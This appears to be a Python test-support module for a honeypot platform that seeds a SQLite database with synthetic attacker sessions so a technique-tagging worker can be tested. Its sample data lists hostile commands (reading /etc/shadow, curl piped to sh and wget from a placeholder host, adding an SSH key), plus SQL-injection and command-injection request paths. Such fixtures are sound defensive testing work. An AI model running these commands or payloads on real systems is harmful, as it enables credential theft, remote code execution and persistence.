"""A database with visits that were collected and profiled, for the ttp worker."""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import os
import random
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

from tests.support.bus import DEADLINE, until
from tests.support.decnet_env import query, worker

NOW = dt.datetime.now(dt.UTC).replace(microsecond=0)
PROFILED = "attacker_worker_cursor"
COMMANDS = (
    *("uname -a", "cat /etc/shadow", "wget http://198.51.100.7/x.sh", "history -c", "ls", "exit"),
    *("echo k >> ~/.ssh/authorized_keys", "crontab -l", "curl http://198.51.100.7/i|sh", "cd /tmp"),
)
PATHS = ("/", "/.env", "/index.php", "/x?id=1%20union%20select%201", "/cgi?x=;wget+http://a/b;")


def visits(count: int, seed: int = 1) -> list[tuple[str, str, str, dict[str, str]]]:
    """(address, service, event type, fields), as decoys would have written them."""
    chance = random.Random(seed)
    made: list[tuple[str, str, str, dict[str, str]]] = []
    for _ in range(count):
        ip = f"192.0.2.{chance.randrange(1, 9)}"
        kind = chance.choice(["command", "command", "login_attempt", "request", "connect"])
        fields: dict[str, str] = {}
        service = "ssh"
        if kind == "command":
            fields = {"command": chance.choice(COMMANDS), "session_id": f"s{ip}"}
        elif kind == "login_attempt":
            secret = f"p{chance.randrange(40)}"
            fields = {"principal": "root", "secret_printable": secret, "outcome": "refused"}
        elif kind == "request":
            service = "http"
            path, _, rest = chance.choice(PATHS).partition("?")
            fields = {"method": "GET", "path": path, "query": rest, "status": "404"}
        made.append((ip, service, kind, fields))
    return made


def seed(
    file: Path,
    events: list[tuple[str, str, str, dict[str, str]]],
    *,
    profiled: bool = True,
    every: float = 1.0,
) -> None:
    """Store the events, and, where `profiled`, the attackers' rows and the profiler's cursor."""
    start = NOW - dt.timedelta(seconds=len(events) * every)
    rows = [
        (
            f"{start + dt.timedelta(seconds=number * every):%Y-%m-%d %H:%M:%S.%f}+00:00",
            *("decky-01", service, kind, ip, "-", json.dumps(fields)),
        )
        for number, (ip, service, kind, fields) in enumerate(events)
    ]
    with contextlib.closing(sqlite3.connect(file, timeout=30)) as connection, connection:
        connection.executemany(
            "INSERT INTO logs"
            " (timestamp, decky, service, event_type, attacker_ip, raw_line, fields)"
            " VALUES (?, ?, ?, ?, ?, ?, ?)",
            rows,
        )
    if profiled:
        profile(file)


def profile(file: Path, most: int | None = None) -> None:
    """What the profiler would have done, as far as ttp cares; with the first `most` events only."""
    stamp = f"{NOW:%Y-%m-%d %H:%M:%S.%f}+00:00"
    with contextlib.closing(sqlite3.connect(file, timeout=30)) as connection, connection:
        columns = connection.execute("SELECT * FROM attackers LIMIT 0").description
        names = [column[0] for column in columns]
        for (ip,) in connection.execute("SELECT DISTINCT attacker_ip FROM logs").fetchall():
            values = {name: 0 for name in names if name.endswith("_count")} | {
                "uuid": f"uuid-{ip}",
                "ip": ip,
                "is_traversal": 0,
                **dict.fromkeys(("first_seen", "last_seen", "updated_at"), stamp),
                **dict.fromkeys(
                    ("services", "deckies", "traversal_path", "fingerprints", "commands"), "[]"
                ),
            }
            insert_into(connection, "attackers", values, "OR IGNORE")
        last = connection.execute("SELECT max(id) FROM logs").fetchone()[0] or 0
        last = last if most is None else min(most, last)
        connection.execute("INSERT OR REPLACE INTO state VALUES (?, ?)", (PROFILED, str(last)))


def insert(file: Path, table: str, **values: Any) -> None:
    """One row; lists and dicts become JSON."""
    with contextlib.closing(sqlite3.connect(file, timeout=30)) as connection, connection:
        insert_into(connection, table, values)


def insert_into(
    connection: sqlite3.Connection, table: str, values: dict[str, Any], how: str = ""
) -> None:
    """`INSERT how INTO table`."""
    plain = {k: json.dumps(v) if isinstance(v, list | dict) else v for k, v in values.items()}
    names, marks = ", ".join(plain), ", ".join("?" * len(plain))
    connection.execute(
        f"INSERT {how} INTO {table} ({names}) VALUES ({marks})", list(plain.values())
    )


def tags(file: Path, extra: str = "") -> list[tuple[Any, ...]]:
    """All tags, but for when they were written."""
    sql = (
        "SELECT uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, tactic,"
        " technique_id, sub_technique_id, confidence, rule_id, rule_version, evidence, observed_at"
        f" FROM ttp_tag {extra} ORDER BY uuid"
    )
    return query(file, sql)


def place(file: Path) -> int:
    """How far the worker is in `logs`."""
    rows = query(file, "SELECT value FROM state WHERE key = 'ttp_cursor:logs'")
    return int(rows[0][0]) if rows else 0


def stamp(ago: float = 0) -> str:
    """A time as the database holds it."""
    return f"{dt.datetime.now(dt.UTC) - dt.timedelta(seconds=ago):%Y-%m-%d %H:%M:%S.%f}"


TTP = "decnet.workers.ttp"


RULE = """
- rule_id: R9001
  rule_version: 1
  name: Own
  description: Own.
  applies_to: [command]
  match: {field: command, regex: '%s'}
  emits: {tactic: TA0002, technique_id: T1059, confidence: 0.5}
"""


def count(file: Path, where: str = "1") -> int:
    return int(query(file, f"SELECT count(*) FROM ttp_tag WHERE {where}")[0][0])


async def tag_all(folder: Path, file: Path, **env: str) -> list[tuple[Any, ...]]:
    """Run a worker until it is at the end of `logs`."""
    last = query(file, "SELECT max(id) FROM logs")[0][0] or 0
    async with worker(folder, TTP, DECNET_BUS_ENABLED="false", **env):
        await until(lambda: place(file) >= last)
    return tags(file, "WHERE source_kind NOT IN ('behavior')")


def query_write(file: Path, sql: str) -> None:
    with contextlib.closing(sqlite3.connect(file, timeout=DEADLINE)) as connection, connection:
        connection.execute(sql)


def decnetctl(folder: Path, *words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "decnet.cli.app", *words],
        env={**os.environ, "DECNET_STATE_DIR": str(folder)},
        capture_output=True,
        text=True,
        timeout=180,
    )
